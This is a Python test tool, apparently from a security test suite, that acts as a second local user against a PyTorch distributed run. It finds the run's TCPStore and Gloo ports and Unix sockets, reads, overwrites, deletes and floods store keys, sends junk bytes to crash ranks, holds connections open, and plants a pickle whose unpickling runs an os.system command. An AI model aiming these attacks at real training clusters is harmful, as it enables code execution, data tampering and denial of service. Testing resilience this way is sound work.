"""Another user of the machine, who connects to all that a run has open.

`python intruder.py FILE HOW` says `ready`, reads the number of a process, becomes user 65534,
connects to the ports and sockets of that process and its children, and prints in JSON what he could
read, and what he did. A pickle that makes FILE is planted wherever something can be written. HOW is
`look` (he reads and plants, and changes nothing that is there) or `disturb` (he overwrites every
key that he finds); or one of WAYS, each of which is one thing that he does to torch's own store or
to Gloo's ports.
"""

from __future__ import annotations

import json
import os
import pickle
import re
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from datetime import timedelta
from importlib import import_module
from pathlib import Path
from typing import Any

OTHER_USER = 65534
LISTENS = "0A"


class Planted:
    """What makes a file where it is unpickled."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        """Run code, as a pickle can."""
        return os.system, (f"touch {self.path}",)


def processes(session: int) -> list[int]:
    """Return the processes of a session, and of those that its processes have begun."""
    parents = {}
    for entry in Path("/proc").glob("[0-9]*/stat"):
        with suppress(OSError):
            after = entry.read_text(encoding="utf-8").rpartition(")")[2].split()
            parents[int(entry.parent.name)] = int(after[1])
    found = [session]
    for pid in found:
        found += [child for child, parent in parents.items() if parent == pid]
    return found


def opens(pids: list[int]) -> tuple[list[tuple[int, str, int]], list[bytes]]:
    """Return the ports, by family and address, and the sockets at which processes listen.

    First the port that most processes hold, then that of the process which begins the others: it
    is of torch's store. The number of a socket says nothing: each core has numbers of its own. What
    he writes to a port of Gloo ends the rank behind it, and with it everything that is open; and
    where he waits for its answer, he waits until the rank has ended.
    """
    inodes = Counter[str]()
    first: dict[str, int] = {}
    for order, pid in enumerate(pids):
        for link in Path(f"/proc/{pid}/fd").glob("*"):
            with suppress(OSError):
                for inode in re.findall(r"socket:\[(\d+)\]", str(link.readlink())):
                    inodes[inode] += 1
                    first.setdefault(inode, order)
    ports = []
    for family, table in ((socket.AF_INET, "tcp"), (socket.AF_INET6, "tcp6")):
        for row in Path(f"/proc/net/{table}").read_text(encoding="utf-8").splitlines()[1:]:
            words = row.split()
            if words[3] == LISTENS and words[9] in inodes:
                address, port = words[1].split(":")
                found = (int(family), address, int(port, 16))
                ports.append((-inodes[words[9]], first[words[9]], found))
    sockets = []
    for row in Path("/proc/net/unix").read_text(encoding="utf-8").splitlines()[1:]:
        words = row.split()
        if words[6] in inodes and len(words) > 7 and words[7].startswith("@") and words[5] == "01":
            sockets.append(b"\0" + words[7][1:].encode())
    return [found for _, _, found in sorted(ports)], sockets


def talk(line: socket.socket, words: bytes) -> bytes:
    """Say something, and return what comes back."""
    line.settimeout(0.3)
    found = b""
    with suppress(OSError):
        line.sendall(words)
        while more := line.recv(1 << 16):
            found += more
    return found


def host_of(family: int, address: str) -> str:
    """Return the address of a row of /proc/net as text; a port open for all has the loopback's."""
    raw = bytes.fromhex(address)
    turned = b"".join(raw[at : at + 4][::-1] for at in range(0, len(raw), 4))
    text = socket.inet_ntop(family, turned).removeprefix("::ffff:")
    return "127.0.0.1" if text in {"0.0.0.0", "::"} else text  # noqa: S104 -- it is compared


def store_at(host: str, port: int) -> Any:
    """Connect as torch does. Raises RuntimeError or OSError where no store of torch's is there."""
    import torch.distributed

    dist: Any = torch.distributed
    return dist.TCPStore(
        host, port, is_master=False, timeout=timedelta(seconds=3), wait_for_workers=False
    )


Ports = list[tuple[int, str, int]]


def read_keys(ports: Ports) -> str:
    """List the keys of torch's store and read their values."""
    return each_key(ports, lambda store, key: store.get(key))


def overwrite_keys(ports: Ports) -> str:
    """Write something else to every key."""
    return each_key(ports, lambda store, key: store.set(key, b"x" * 100))


def delete_keys(ports: Ports) -> str:
    """Delete every key."""
    return each_key(ports, lambda store, key: store.delete_key(key))


def count_on_keys(ports: Ports) -> str:
    """Add to every key as if it were a counter."""
    return each_key(ports, lambda store, key: store.add(key, 1))


def each_key(ports: Ports, do: Any) -> str:
    count = 0
    for number, address, port in ports:
        with suppress(RuntimeError, OSError, ValueError):
            store = store_at(host_of(number, address), port)
            for key in store.list_keys():
                count += 1
                with suppress(RuntimeError):
                    do(store, key)
    return f"{count} keys"


def fill_store(ports: Ports) -> str:
    """Store 256 MiB."""
    count = 0
    for number, address, port in ports[:1]:
        with suppress(RuntimeError, OSError, ValueError):
            store = store_at(host_of(number, address), port)
            for each in range(32):
                store.set(f"filled/{each}", b"x" * (8 << 20))
                count += 8
    return f"{count} MiB"


def write_to_store(ports: Ports) -> str:
    """Send bytes to the store's port that its protocol does not have."""
    return write(ports[:1])


def write_to_gloo(ports: Ports) -> str:
    """Send bytes to each of Gloo's ports."""
    return write(ports[1:])


def write_zeros_to_gloo(ports: Ports) -> str:
    """Send zeros to each of Gloo's ports, which begin as the number of a connection does."""
    return write(ports[1:], bytes(4096))


def write(ports: Ports, words: bytes = bytes(range(256)) * 16) -> str:
    count = 0
    for number, address, port in ports:
        host = host_of(number, address)
        with line_to(host) as line, suppress(OSError):
            line.connect((host, port))
            talk(line, words)
            count += 1
    return f"{count} ports"


def hold_ports(ports: Ports) -> str:
    """Connect to every port 100 times, and say nothing for as long as the run takes."""
    lines = []
    for number, address, port in ports:
        for _ in range(100):
            host = host_of(number, address)
            lines.append(line_to(host))
            with suppress(OSError):
                lines[-1].connect((host, port))
    time.sleep(HOLDS_S)
    for line in lines:
        line.close()
    return f"{len(lines)} connections"


def line_to(host: str) -> socket.socket:
    """Return a socket that can connect to a host of either kind of address."""
    line = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    line.settimeout(0.3)
    return line


#: what he does from the start of a run to its end, again and again, for so many seconds at most
EAGER = {
    "overwrites each key as it appears": lambda ports: overwrite_keys(ports[:1]),
    "writes zeros to each port as it is opened": lambda ports: write(ports, bytes(4096)),
}
EAGER_S = 40.0
#: seconds that an intruder holds the ports: longer than the case sleeps
HOLDS_S = 12.0
#: looks into the stores, until one answers
TRIES = 3
WAYS: dict[str, Callable[[Ports], str]] = {
    "reads every key of torch's store": read_keys,
    "overwrites every key": overwrite_keys,
    "deletes every key": delete_keys,
    "adds to every key": count_on_keys,
    "stores 256 MiB": fill_store,
    "writes 4 KiB to the store's port": write_to_store,
    "writes 4 KiB to each of Gloo's ports": write_to_gloo,
    "writes zeros to each of Gloo's ports": write_zeros_to_gloo,
    "holds 100 connections to every port": hold_ports,
}


def runs(pid: int) -> bool:
    """Whether a process has not ended."""
    with suppress(OSError):
        return " Z " not in Path(f"/proc/{pid}/stat").read_text(encoding="utf-8")
    return False


def repeat(do: Callable[[Ports], str], session: int) -> str:
    """Do it to what a run has open, again and again; a process of its own looks that up.

    Every user can find the ports by trying all of them, which takes longer.
    """
    near, far = socket.socketpair()
    if not os.fork():
        near.close()
        while far.recv(1):
            far.sendall(json.dumps(opens(processes(session))[0]).encode().ljust(4096))
        os._exit(0)
    far.close()
    become_another()
    until_s, did = time.monotonic() + EAGER_S, Counter[str]()
    while time.monotonic() < until_s and runs(session):
        near.sendall(b".")
        count, _, what = do(json.loads(near.recv(4096, socket.MSG_WAITALL))).partition(" ")
        did[what] += int(count)
    near.close()
    return ", ".join(f"{count} {what}" for what, count in did.items())


def become_another() -> None:
    """Be another user from now on."""
    os.setgroups([])
    os.setgid(OTHER_USER)
    os.setuid(OTHER_USER)


def look_into_stores(
    ports: Ports, pickled: bytes, session: int, *, overwrites: bool
) -> dict[str, str]:
    """Read every key of each store, plant a pickle under our keys, and under all he overwrites."""
    read = {}
    for number, address, port in ports:
        with suppress(RuntimeError, OSError, ValueError):
            store = store_at(host_of(number, address), port)
            for key in store.list_keys():
                with suppress(RuntimeError):
                    read[f"key {key}"] = bytes(store.get(key)).decode("latin-1")
                if overwrites:
                    store.set(key, pickled)
            for key in ("mail/1", "mail/2", "order/1", "turn/0/1", "scenario/1/mail/1"):
                for prefix in (f"launch-{session}-1", "torch_scenarios/run/0", "/default_pg"):
                    store.set(f"{prefix}/{key}", pickled)
    return read


def main() -> None:
    """Be the intruder."""
    import_module("torch.distributed")  # before he is ready: it takes seconds
    path, how = sys.argv[1:]
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    session = int(sys.stdin.readline())
    if how in EAGER:
        json.dump({"ports": -1, "did": repeat(EAGER[how], session)}, sys.stdout)
        return
    ports, sockets = opens(processes(session))  # he finds them as well by trying each
    become_another()
    if how in WAYS:
        json.dump({"ports": len(ports), "did": WAYS[how](ports)}, sys.stdout)
        return
    pickled = pickle.dumps(Planted(path))
    read: dict[str, str] = {}
    for name in sockets:
        with socket.socket(socket.AF_UNIX) as line, suppress(OSError):
            line.connect(name)
            read[f"socket {name[1:].decode()}"] = talk(line, bytes(32) + pickled).decode("latin-1")
    for _ in range(TRIES):
        read |= look_into_stores(ports, pickled, session, overwrites=how == "disturb")
        if any(name.startswith("key ") for name in read):
            break  # a store of a busy machine may not answer him at once
    # what he writes to a port of Gloo may end the rank behind it, and all that is open with it
    for number, address, port in ports:
        host = host_of(number, address)
        with line_to(host) as line, suppress(OSError):
            line.connect((host, port))
            read[f"port {port} of {address}"] = talk(line, pickled + bytes(100)).decode("latin-1")
    json.dump({"ports": len(ports), "sockets": len(sockets), "read": read}, sys.stdout)


if __name__ == "__main__":
    main()
